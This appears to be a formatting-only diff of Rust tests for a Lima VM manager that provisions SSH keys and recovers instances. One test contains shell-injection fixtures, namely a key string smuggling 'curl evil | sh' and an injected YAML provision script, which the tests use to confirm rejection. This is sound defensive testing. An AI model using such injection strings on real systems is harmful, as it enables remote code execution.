@@ -182,13 +182,21 @@ async fn provision_and_teardown_run_the_expected_limactl_sequence() {
         "  - mode: system",
         "      set -eu",
     ] {
-        assert!(yaml.lines().any(|l| l == line), "missing {line:?} in\n{yaml}");
+        assert!(
+            yaml.lines().any(|l| l == line),
+            "missing {line:?} in\n{yaml}"
+        );
     }
-    let authorized = key.access_pub_key().to_openssh(&format!("xe-lease-{}", lease.short()));
+    let authorized = key
+        .access_pub_key()
+        .to_openssh(&format!("xe-lease-{}", lease.short()));
     let key_lines: Vec<&str> = yaml.lines().filter(|l| l.contains("ssh-ed25519")).collect();
     assert_eq!(
         key_lines,
-        vec![format!("      printf '%s\\n' '{authorized}' > /root/.ssh/authorized_keys.xe-new").as_str()],
+        vec![
+            format!("      printf '%s\\n' '{authorized}' > /root/.ssh/authorized_keys.xe-new")
+                .as_str()
+        ],
         "exactly the lease key, once"
     );
     assert!(yaml.contains("mv -f /root/.ssh/authorized_keys.xe-new /root/.ssh/authorized_keys"));
@@ -222,7 +230,9 @@ async fn hostile_keys_are_rejected_before_any_command() {
     let tmp = tempfile::tempdir().expect("tempdir");
     let good = lease_key(tmp.path(), "lease").openssh_public();
     let hostile = [
-        format!("{good}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl evil"),
+        format!(
+            "{good}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl evil"
+        ),
         format!("{good}' > /root/.ssh/authorized_keys; curl evil | sh; echo '"),
         "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ evil".to_string(),
         format!("{}\n", "ab".repeat(32)),
@@ -245,13 +255,19 @@ async fn hostile_keys_are_rejected_before_any_command() {
         .expect_err("not a point");
     assert!(matches!(e, VmError::InvalidKey), "{e}");
     assert!(!fake.log.exists(), "limactl ran: {:?}", fake.calls());
-    assert!(!fake.lima_home.join("_xe").exists(), "a template was written");
+    assert!(
+        !fake.lima_home.join("_xe").exists(),
+        "a template was written"
+    );
     assert_eq!(mgr.get(&lease).await, None);
 
     // Config strings are checked at construction, also before any command.
     let mut bad = fake.config();
     bad.image = format!("{IMAGE}\"\nprovision: [{{mode: system, script: 'evil'}}]");
-    assert!(matches!(LimaManager::new(bad), Err(VmError::InvalidConfig(_))));
+    assert!(matches!(
+        LimaManager::new(bad),
+        Err(VmError::InvalidConfig(_))
+    ));
     assert!(!fake.log.exists());
 }
 
@@ -271,7 +287,14 @@ async fn failed_start_reports_log_tails_and_removes_the_instance() {
         .expect_err("start fails");
     let text = e.to_string();
     assert!(matches!(e, VmError::Failed { .. }), "{text}");
-    for needle in ["limactl start", "FATA[0003]", "ha.stderr.log", "XYZZY", "serial.log", "PLUGH"] {
+    for needle in [
+        "limactl start",
+        "FATA[0003]",
+        "ha.stderr.log",
+        "XYZZY",
+        "serial.log",
+        "PLUGH",
+    ] {
         assert!(text.contains(needle), "{needle:?} missing from {text}");
     }
     let calls = fake.calls();
@@ -280,7 +303,10 @@ async fn failed_start_reports_log_tails_and_removes_the_instance() {
         vec![
             format!(
                 "create --name={name} --tty=false {}",
-                fake.lima_home.join("_xe").join(format!("{name}.yaml")).display()
+                fake.lima_home
+                    .join("_xe")
+                    .join(format!("{name}.yaml"))
+                    .display()
             ),
             format!("start --tty=false {name}"),
             format!("stop -f {name}"),
@@ -289,10 +315,16 @@ async fn failed_start_reports_log_tails_and_removes_the_instance() {
     );
     let info = mgr.get(&lease).await.expect("error is kept for GET /vms");
     assert_eq!(info.status, VmStatus::Error);
-    assert!(info.error.as_deref().unwrap_or("").contains("PLUGH"), "{info:?}");
+    assert!(
+        info.error.as_deref().unwrap_or("").contains("PLUGH"),
+        "{info:?}"
+    );
     assert!(matches!(
         mgr.dial_ssh(&lease).await,
-        Err(VmError::NotRunning { status: VmStatus::Error, .. })
+        Err(VmError::NotRunning {
+            status: VmStatus::Error,
+            ..
+        })
     ));
 }
 
@@ -320,18 +352,46 @@ async fn recover_adopts_kept_instances_and_deletes_orphans() {
         .await
         .expect("recover");
     let statuses: Vec<VmStatus> = infos.iter().map(|i| i.status).collect();
-    assert_eq!(statuses, [VmStatus::Running, VmStatus::Running, VmStatus::Error]);
+    assert_eq!(
+        statuses,
+        [VmStatus::Running, VmStatus::Running, VmStatus::Error]
+    );
     assert_eq!(infos[0].ssh_port, Some(fake.port()));
     assert!(infos[0].host_key.is_some());
-    assert!(infos[2].error.as_deref().unwrap_or("").contains("no longer exists"), "{:?}", infos[2]);
+    assert!(
+        infos[2]
+            .error
+            .as_deref()
+            .unwrap_or("")
+            .contains("no longer exists"),
+        "{:?}",
+        infos[2]
+    );
 
     let calls = fake.calls();
     assert_eq!(calls[0], "list --json");
-    assert!(calls.contains(&"stop -f xe-00000000deadbeef".to_string()), "{calls:#?}");
-    assert!(calls.contains(&"delete -f xe-00000000deadbeef".to_string()), "{calls:#?}");
-    assert!(calls.contains(&format!("start --tty=false {}", instance_name(&stopped))), "{calls:#?}");
-    assert!(!calls.iter().any(|c| c.contains("personal")), "touched a foreign instance: {calls:#?}");
-    assert!(!calls.iter().any(|c| c.starts_with("delete") && !c.ends_with("deadbeef")), "{calls:#?}");
+    assert!(
+        calls.contains(&"stop -f xe-00000000deadbeef".to_string()),
+        "{calls:#?}"
+    );
+    assert!(
+        calls.contains(&"delete -f xe-00000000deadbeef".to_string()),
+        "{calls:#?}"
+    );
+    assert!(
+        calls.contains(&format!("start --tty=false {}", instance_name(&stopped))),
+        "{calls:#?}"
+    );
+    assert!(
+        !calls.iter().any(|c| c.contains("personal")),
+        "touched a foreign instance: {calls:#?}"
+    );
+    assert!(
+        !calls
+            .iter()
+            .any(|c| c.starts_with("delete") && !c.ends_with("deadbeef")),
+        "{calls:#?}"
+    );
     assert!(fake.lima_home.join("personal").exists());
     assert!(!fake.lima_home.join("xe-00000000deadbeef").exists());
     assert_eq!(mgr.list().await.len(), 3);
@@ -348,5 +408,8 @@ fn missing_limactl_is_tool_missing() {
     ))
     .err()
     .expect("must fail");
-    assert!(matches!(&e, VmError::ToolMissing { tool, .. } if tool == "limactl"), "{e}");
+    assert!(
+        matches!(&e, VmError::ToolMissing { tool, .. } if tool == "limactl"),
+        "{e}"
+    );
 }
